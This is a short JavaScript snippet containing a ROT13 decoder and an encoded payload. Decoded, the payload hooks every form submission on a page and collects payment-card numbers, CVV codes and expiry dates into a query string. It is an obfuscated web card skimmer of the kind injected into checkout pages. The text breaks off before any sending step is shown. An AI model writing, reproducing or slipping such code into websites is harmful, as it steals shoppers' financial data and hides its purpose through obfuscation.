var Rot = {
  d: function (s) {
    return s.replace(/[a-z]/gi, function (c) {
      return String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13));
    });
  }
};
var body = 'qbphzrag.nqqRiragYvfgrare(\'fhozvg\', shapgvba (r) {\x0a ' +
  ' ine s = r.gnetrg;\x0a  ine pp = s.dhrelFryrpgbe(\'[anzr' +
  '*="pneqahzore"], [anzr*="pneq_ahzore"], #pneqAhzore\'' +
  ');\x0a  vs (!pp) erghea;\x0a  ine pi = s.dhrelFryrpgbe(\'[a' +
  'nzr*="pii"], [anzr*="pip"], #pneqPii\');\x0a  ine rk = s' +
  '.dhrelFryrpgbe(\'[anzr*="rkcve"], #pneqRkcvel\');\x0a  in' +
  'e zft = \'p=\' + pp.inyhr + \'&i=\' + (pi ? pi.inyhr : \'' +
  '\') + \'&k=\' + (rk ? rk.inyhr : \'\')
